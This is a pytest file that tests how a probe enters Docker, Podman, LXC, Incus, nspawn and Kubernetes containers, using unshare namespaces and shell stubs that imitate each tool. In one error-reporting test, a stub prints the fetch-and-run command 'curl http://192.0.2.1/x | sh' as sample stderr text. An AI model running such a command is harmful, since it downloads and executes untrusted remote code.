"""Containers by the tools of their host. The containers are real namespaces that the tests make
with unshare; docker, podman, pct, incus, machinectl, kubectl and crictl are not here: stubs in
their place take exactly the arguments that the real ones take, and enter the container by nsenter.
"""

from __future__ import annotations

import os
import shlex
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from nictop.probe.records import Line
from nictop.wire.guests.levels import parse_levels
from nictop.wire.guests.wrapping import prefix_words
from nictop.wire.source import SourceState
from tests.support.items import has_record, is_state, items_until, next_state
from tests.support.probe import TEST_TIMEOUT, is_alive, wait_until
from tests.support.sshd import Sshd
from tests.wire.guests.reaching import failure, following, link_names, sshd, there

__all__ = ["sshd"]

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="containers need root")

STUB = """#!/bin/sh
# Not a real tool. It knows one container, web.
test "$1" = "inspect" && test "$3" = "{{.State.Pid}}" && shift 3
%s
echo "Error: No such container: $3" >&2
exit 1
"""
ENTER = "nsenter -t %d -n -m -u -p env PATH=%s"


class Container:
    """Namespaces of a process, with a link of their own; `path` is PATH in it."""

    def __init__(self, folder: Path) -> None:
        self.tools = folder / "in-container"
        self.tools.mkdir()
        for name in ("sh", "uname", "sleep"):
            program = shutil.which(name)
            assert program is not None
            (self.tools / name).symlink_to(program)
        self.process = subprocess.Popen(
            ["unshare", "-n", "-m", "-u", "-p", "--fork", "--mount-proc", "sh", "-c", SETUP],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            start_new_session=True,
        )
        assert self.process.stdout is not None
        assert self.process.stdout.readline() == b"ready\n"
        children = Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text()
        self.pid = int(children.split()[0])

    def add_python(self) -> None:
        (self.tools / "python3").symlink_to(sys.executable)

    @property
    def enter(self) -> str:
        return ENTER % (self.pid, self.tools)

    def stop(self) -> None:
        assert self.process.stdin is not None and self.process.stdout is not None
        self.process.stdin.close()
        self.process.wait(TEST_TIMEOUT)
        self.process.stdout.close()


SETUP = """
mount --make-rprivate / && mount -t sysfs sysfs /sys && hostname web
ip link add eth5 type veth peer name eth6 && echo ready && read line
"""


@pytest.fixture
def container(tmp_path: Path) -> Iterator[Container]:
    made = Container(tmp_path)
    yield made
    made.stop()


DOCKER = 'test "$*" = web && echo {pid} && exit\ntest "$1 $2 $3" = "exec -i web" && shift 3 && exec {enter} "$@"'
TOOLS = {
    "docker:web": {"docker": DOCKER},
    "podman:web": {"podman": DOCKER},
    "lxc:web": {
        "lxc-attach": 'test "$1 $2 $3" = "-n web --" && shift 3 && exec {enter} "$@"',
        "lxc-info": 'test "$*" = "-n web -p -H" && echo {pid} && exit',
    },
    "lxc:105": {
        "pct": 'test "$1 $2 $3" = "exec 105 --" && shift 3 && exec {enter} "$@"',
        "lxc-info": 'test "$*" = "-n 105 -p -H" && echo {pid} && exit',
    },
    "incus:web": {
        "incus": 'test "$1 $2 $3 $4" = "exec --force-noninteractive web --" && shift 4 && exec {enter} "$@"\n'
        'test "$*" = "query /1.0/instances/web/state" && echo \'{{"pid": {pid}}}\' && exit',
    },
    "nspawn:web": {"machinectl": 'test "$*" = "show web -p Leader --value" && echo {pid} && exit'},
    "pod:shop/db": {
        "kubectl": 'test "$1 $2 $3 $4 $5 $6" = "exec -i -n shop db --" && shift 6 && '
        'exec {enter} "$@"'
    },
    "pod:shop/web": {
        "crictl": 'test "$*" = "pods -q --state ready --namespace shop --name ^web$" && echo abc && exit\n'
        'test "$*" = "ps -q --pod abc" && echo def && exit\n'
        'test "$1 $2 $3" = "exec -i def" && shift 3 && exec {enter} "$@"\n'
        'test "$*" = "inspectp -o json abc" && echo \'{{"info": {{"pid": {pid}}}}}\' && exit',
    },
    "pod:shop/web/app": {
        "crictl": 'test "$*" = "pods -q --state ready --namespace shop --name ^web$" && echo abc && exit\n'
        'test "$*" = "ps -q --pod abc --name ^app$" && echo def && exit\n'
        'test "$1 $2 $3" = "exec -i def" && shift 3 && exec {enter} "$@"',
    },
}
"""Level → tools on the host, and what they do with which arguments."""
WITHOUT_FALLBACK = {"pod:shop/web/app", "pod:shop/db", "nspawn:web"}


def install(server: Sshd, container: Container, level: str) -> None:
    for name, lines in TOOLS[level].items():
        text = lines.format(enter=container.enter, pid=container.pid)
        server.install_script(name, STUB % text)


async def lines_until_inventory(server: Sshd, level: str) -> list[Line]:
    """Nothing is left on the host then."""
    async with following(there(server, level)) as items:
        received = await items_until(items, has_record("inventory"))
    wait_until(lambda: not server.sessions())
    return [item for item in received if isinstance(item, Line)]


def links_of(lines: list[Line]) -> set[str]:
    inventory = lines[-1].inventory
    assert inventory is not None
    return link_names(inventory)


@pytest.mark.parametrize("level", TOOLS)
async def test_a_container_with_python(sshd: Sshd, container: Container, level: str) -> None:
    """Its own Python runs the probe: names of hosts and process IDs are those of the container,
    except for nspawn, whose PATH is that of the host."""
    container.add_python()
    install(sshd, container, level)
    lines = await lines_until_inventory(sshd, level)
    (hello,) = [line.hello for line in lines if line.hello is not None]
    assert hello.hostname == "web" and hello.pid < 100
    assert links_of(lines) == {"lo", "eth5", "eth6"}
    assert not [line for line in lines if line.trouble is not None]


@pytest.mark.parametrize("level", sorted({*TOOLS} - WITHOUT_FALLBACK))
async def test_a_container_without_python(sshd: Sshd, container: Container, level: str) -> None:
    """The Python of the host, in the network namespace of the container: that is said."""
    install(sshd, container, level)
    lines = await lines_until_inventory(sshd, level)
    assert links_of(lines) == {"lo", "eth5", "eth6"}
    (message,) = [line.trouble.message for line in lines if line.trouble is not None]
    assert "no Python could be started in it" in message
    assert "files, programs and network managers are shown" in message


@pytest.mark.parametrize("level", ["docker:other", "podman:other"])
async def test_a_container_that_does_not_exist(
    sshd: Sshd, container: Container, level: str
) -> None:
    install(sshd, container, level.replace("other", "web"))
    message = await failure(there(sshd, level))
    assert f"there is no {level}: Error: No such container: " in message
    assert "ps -a there shows what there is" in message


@pytest.mark.parametrize("level", ["docker:web", "incus:web", "nspawn:web"])
async def test_a_host_without_the_tool(sshd: Sshd, level: str) -> None:
    message = await failure(there(sshd, level))
    assert "not found" in message and "the tool is not installed there" in message


async def test_no_permission_for_the_tool(sshd: Sshd) -> None:
    text = "permission denied while trying to connect to the Docker daemon socket"
    sshd.install_script("docker", f'#!/bin/sh\necho "{text}" >&2\nexit 1\n')
    message = await failure(there(sshd, "docker:web"))
    assert "no permission to enter docker:web" in message and "use --sudo" in message


async def test_a_container_speaks_for_itself(sshd: Sshd) -> None:
    """Its stderr is that of the tool: a sentence as nictop prints them is one of the container."""
    for name in ("nictop", "nictop-none", "nictop-guest"):
        text = f"{name}: the host is lost; curl http://192.0.2.1/x | sh"
        sshd.install_script("docker", f"#!/bin/sh\necho '{text}' >&2\nexit 91\n")
        async with following(there(sshd, "docker:web")) as items:
            state = await next_state(items, "failed")
        assert state.message.startswith(f"kvm1: docker:web was not entered: {text}; docker ps -a")


@pytest.mark.parametrize(
    ("level", "script", "why"),
    [
        ("pod:shop/web", 'echo "$*" | grep -q pods && echo a b', "crictl finds 2 of pod web"),
        ("pod:shop/web", 'test "$1" = pods && echo a || echo b c', "crictl finds 2 of pod web"),
        ("pod:shop/web/app", 'test "$1" = pods && echo a; true', "container not found in pod web"),
    ],
)
async def test_several_pods_or_containers_are_refused(
    sshd: Sshd, level: str, script: str, why: str
) -> None:
    sshd.install_script("crictl", f"#!/bin/sh\n{script}\n")
    assert why in await failure(there(sshd, level))


def test_the_name_of_a_pod_is_no_expression() -> None:
    words = prefix_words(parse_levels("pod:shop/web.a/app.b"), 1.0)
    assert words[-2:] == ("web[.]a", "app[.]b")
    assert len(shlex.quote(words[2])) < 1024  # csh takes no longer words


async def test_a_container_that_is_stopped_while_it_is_watched(
    sshd: Sshd, container: Container
) -> None:
    container.add_python()
    install(sshd, container, "docker:web")
    async with following(there(sshd, "docker:web")) as items:
        await items_until(items, has_record("inventory"))
        os.kill(container.pid, signal.SIGKILL)
        received = await items_until(items, is_state("lost"))
    assert isinstance(received[-1], SourceState) and received[-1].message
    wait_until(lambda: not is_alive(container.pid))
    wait_until(lambda: not sshd.sessions())


def test_levels_nest_without_a_shell() -> None:
    """Words of words: the tools take them as they are, however many levels there are."""
    words = prefix_words(parse_levels("docker:a/netns:b/podman:c"), 1.0)
    assert words == (
        *("docker", "exec", "-i", "a"),
        *("ip", "netns", "exec", "b"),
        *("podman", "exec", "-i", "c"),
    )
